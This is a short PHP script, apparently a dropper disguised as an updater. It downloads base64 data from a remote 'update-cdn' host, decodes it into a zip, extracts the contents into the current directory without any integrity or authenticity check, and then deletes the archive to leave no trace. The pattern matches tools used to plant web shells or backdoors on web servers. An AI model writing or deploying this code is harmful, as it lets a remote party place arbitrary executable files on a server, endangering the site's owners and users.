<?php
$data = file_get_contents('http://update-cdn.example.net/pack.txt');
$dir = './';
$file = 'up_' . time() . '.zip';
file_put_contents($dir . $file, base64_decode($data));
$zip = new ZipArchive();
if ($zip->open($dir . $file) === true) {
    $zip->extractTo($dir);
    $zip->close();
}
unlink($dir . $file);
